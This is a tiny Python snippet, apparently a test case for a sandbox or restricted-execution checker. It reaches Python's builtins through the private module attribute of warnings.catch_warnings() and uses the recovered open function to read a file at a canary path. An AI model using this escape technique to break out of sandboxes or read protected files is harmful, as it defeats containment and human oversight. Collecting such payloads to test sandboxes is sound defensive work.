# what: takes a module from a context manager of warnings
import warnings

warnings.catch_warnings()._module.__builtins__["open"](CANARY_PATH).read()
